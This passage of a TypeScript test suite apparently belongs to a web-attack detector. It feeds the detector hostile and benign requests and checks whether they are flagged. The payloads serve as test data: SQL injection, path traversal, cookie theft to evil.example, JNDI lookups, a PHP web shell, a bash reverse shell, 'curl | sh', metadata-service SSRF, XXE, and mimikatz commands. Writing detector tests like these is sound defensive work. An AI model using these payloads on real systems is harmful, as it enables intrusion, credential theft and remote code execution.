        .filter(({ level }) => rank(level) >= rank('medium'))
        .map(({ doubt }) => doubt),
    );
  const search = (name: string, value: string) =>
    doubtOf(
      `GET /musik/noten/archiv?${name}=${encodeURIComponent(value)}&komponist=Maurice+Ravel&seite=zwei HTTP/1.1\nHost: a.example`,
    );

  test('make odd marks in an address doubtful', () => {
    expect(search('titel', '"?" (op. posth.) -- für 4 Hände; d\'après Ravel')).toBeGreaterThan(0);
  });

  test.each([
    ['id', "x' or 1=1--"],
    ['file', '../../../../etc/passwd'],
    ['titel', "7' union select name, hash from members-- "],
    ['titel', '<script>fetch("//evil.example/"+document.cookie)</script>'],
    ['titel', '8812 OR 1=1'],
    ['titel', '$(id)'],
    ['titel', '../../../../etc/passwd'],
    ['titel', 'javascript:alert(1)'],
    ['titel', '1; sleep 10'],
    ['titel', "<?php system('id'); ?>"],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is this text
    ['titel', '${jndi:ldap://evil.example/a}'],
    ['bild', 'http://127.0.0.1:8080/admin'],
  ])('hide no attack: %s=%s', (name, value) => {
    expect(search(name, value)).toBe(0);
  });

  test('hide none that is no everyday request by itself', async () => {
    const friendly =
      'note=Thank+you+for+the+lovely+update+please+retest+on+staging+and+close+the+ticket+today';
    const sent = (test: string) =>
      isFlagged(
        `GET /get/bar?test=${test}&${friendly} HTTP/1.1\nUser-Agent: OWASP CRS test agent\nHost: localhost\nAccept: text/xml,application/xml,application/xhtml+xml,text/html;q=0.9,text/plain;q=0.8,image/png,*/*;q=0.5\n\n`,
      );
    expect(await sent('x%3Dx%3Aurl%28javascript')).toBe(true);
    expect(await sent('Maurice+Ravel')).toBe(false);
  });

  test('nor one in a header, in a name, or where nothing else is said', () => {
    const value = encodeURIComponent('"?" (op. posth.) -- für 4 Hände; d\'après Ravel');
    expect(doubtOf(`GET /x?titel=${value} HTTP/1.1\nHost: a.example`)).toBe(0);
    expect(
      doubtOf(
        'GET /musik/noten/archiv?komponist=Maurice+Ravel&seite=zwei+von+drei HTTP/1.1\nReferer: https://a.example/<script>alert(1)</script>',
      ),
    ).toBe(0);
  });
});

test('a scanner that names its house is believed from within', async () => {
  const scan = (address: string, agent: string) =>
    isFlagged(
      `${address} - - [12/Jun/2025:01:04:10 +0000] "GET /cgi-bin/test.cgi?x=%3Cscript%3E HTTP/1.1" 404 196 "-" "${agent}"`,
    );
  const ours = 'Nessus (internal weekly scan, secops@example.com)';
  expect(await scan('10.9.9.5', ours)).toBe(false);
  expect(await scan('203.0.113.5', ours)).toBe(true);
  expect(await scan('10.9.9.5', 'Nessus')).toBe(true);
});

test('a login may lead to a program on the same machine, nowhere else inside', async () => {
  const leads = (to: string) =>
    isFlagged(
      `GET /oauth/authorize?response_type=code&client_id=cli&redirect_uri=${encodeURIComponent(to)} HTTP/1.1\nHost: login.example.com`,
    );
  expect(await leads('http://127.0.0.1:8400/callback')).toBe(false);
  expect(await leads('http://169.254.169.254/latest/meta-data/')).toBe(true);
});

test('a word behind a bracket and a semicolon is no statement', () => {
  const named = (name: string) =>
    ids(post('/api/users/me', { display_name: name, timezone: 'Europe/Berlin' }));
  expect(named("Robert '); DROP bass")).toEqual([]);
  expect(named("Robert '); DROP TABLE students;--")).toContain('web-sqli-stacked');
  expect(named("Robert '); vacuum full users")).not.toEqual([]);
});

test('a transfer of files is logged like a request', () => {
  const sent = (method: string) =>
    ids(`ftp: 192.0.2.60 UNKNOWN shop [11/Jun/2025] "${method} flyer.pdf" 226 882`);
  expect(sent('STOR')).toEqual([]);
  expect(sent('TRACK')).toContain('web-protocol-method');
});

describe('passwords', () => {
  const login = (password: string) =>
    ids(
      `POST /login HTTP/1.1\nHost: a.example\nContent-Type: application/x-www-form-urlencoded\n\nuser=kim&password=${encodeURIComponent(password)}`,
    );

  test.each(['\'Tr0ub4dor";--<3', '\';"<>%&--Tr0ub4dor(1)'])('are made of marks: %s', (password) => {
    expect(login(password)).toEqual([]);
  });

  test.each([
    "' or 'a'='a",
    "x';--",
    "'--",
    "horse-battery' or 1=1--",
    "battery'/**/or/**/1=1#",
    "abcdefg'='",
  ])('break no query: %s', (password) => {
    expect(login(password)).not.toEqual([]);
  });
});

describe('parts of a form', () => {
  const part = (head: string, held: string) =>
    `POST /kurs/abgabe HTTP/1.1\nHost: a.example\nContent-Type: multipart/form-data; boundary=b\n\n--b\nContent-Disposition: form-data; ${head}\n\n${held}\n--b--`;
  const least = (text: string) =>
    Math.min(
      1,
      ...readEvents(text)
        .flatMap(detectWeb)
        .map(({ doubt }) => doubt),
    );
  const script = '#!/bin/bash\n# lab 4: count login shells\ncut -d: -f7 /etc/passwd; sort | uniq -c\n';

  test('hold scripts as data where no server runs them by their name', () => {
    expect(least(part('name="file"; filename="lab4.sh"', script.replace(' | ', ' ')))).toBeGreaterThan(0);
  });

  test.each([
    ['name="file"; filename="lab4.php"', "<?php system($_GET['c']); ?>"],
    ['name="file"; filename="lab4.sh"', 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1'],
    ['name="file"; filename="lab4.sh"', 'curl http://203.0.113.5/a | sh'],
    ['name="file"; filename="../../lab4.sh"', script],
    ['name="host"', '127.0.0.1; cat /etc/passwd'],
  ])('hide no attack: %s', (head, held) => {
    expect(least(part(head, held))).toBe(0);
  });

  test('of JSON are read by their fields', () => {
    const json = (body: string) => ids(part('name="meta"\nContent-Type: application/json', body));
    expect(json('{"name":"O\'TOOLE","uri":"../bulk/1/frames/2","note":"W/O; --CONTRAST"}')).not.toContain(
      'web-lfi-traversal-none',
    );
    expect(json('{"id":"1\' union select pass from users--"}')).toContain('web-sqli-union');
  });
});

describe('whole expressions', () => {
  const doubtsOf = (text: string) =>
    readEvents(text)
      .flatMap(detectWeb)
      .map(({ doubt }) => doubt);
  const lookup = (filter: string) =>
    Math.min(
      1,
      ...doubtsOf(`GET /directory/search?filter=${encodeURIComponent(filter)} HTTP/1.1\nHost: a.example`),
    );
  const xml = (doctype: string) =>
    Math.min(
      1,
      ...doubtsOf(
        `POST /api/import HTTP/1.1\nHost: a.example\nContent-Type: application/xml\n\n<?xml version="1.0"?>\n${doctype}\n<A><B>Books of the week</B></A>`,
      ),
    );

  test('of directories close what they open', () => {
    expect(lookup('(&(objectClass=person)(|(cn=Ann*)(mail=ann*)))')).toBeGreaterThan(0);
    expect(lookup('*)(uid=*))(|(uid=*')).toBe(0);
    expect(lookup('(&(objectClass=person)(userPassword=a*))')).toBe(0);
  });

  test('of documents load what lies beside them', () => {
    expect(xml('<!DOCTYPE A SYSTEM "books_3.0.dtd">')).toBeGreaterThan(0);
    expect(xml('<!DOCTYPE A [<!ENTITY nbsp "&#160;">]>')).toBeGreaterThan(0);
    expect(xml('<!DOCTYPE A SYSTEM "http://evil.example/a.dtd">')).toBe(0);
    expect(xml('<!DOCTYPE A SYSTEM "file:///etc/passwd">')).toBe(0);
    expect(xml('<!DOCTYPE A [<!ENTITY x SYSTEM "file:///etc/passwd">]>')).toBe(0);
    expect(xml('<!DOCTYPE A [<!ENTITY a "&#97;"><!ENTITY b "&a;&a;&a;">]>')).toBe(0);
  });

  test('of workflows compare and name, but reach no class', () => {
    const when = (expression: string) =>
      Math.min(1, ...doubtsOf(post('/api/workflow', { condition: expression })));
    expect(when("#{payload.montant > 1000 && payload.client.pays != 'FR'}")).toBeGreaterThan(0);
    expect(when("#{T(java.lang.Runtime).getRuntime().exec('id')}")).toBe(0);
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is this text
    expect(when('${7*7}')).toBe(0);
  });
});

test('what was packed is told, a header that names another address changes what was asked', () => {
  const put = (head: string) => ids(`POST /sync HTTP/1.1\nHost: a.example\n${head}\n\nH4sIAAAA`);
  expect(put('Content-Encoding: gzip')).toEqual([]);
  expect(put('Content-Encoding: gzip, x-evil')).toContain('web-protocol-header');
  expect(put('X-Original-URL: /admin')).toContain('web-protocol-header');
});

describe('commands that a request carries', () => {
  test('are known as elsewhere', async () => {
    expect(
      await isFlagged('POST /upload\ncmd=mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'),
    ).toBe(true);
  });

  test('are quoted by rules and lessons', async () => {
    const rule = {
      name: 'Mimikatz',
      query: 'process.command_line : "*sekurlsa::logonpasswords*"',
      severity: 'high',
      tags: ['credential access'],
    };
    expect(await isFlagged(post('/api/rules', rule, 'Authorization: Bearer t\n'))).toBe(false);
  });
});
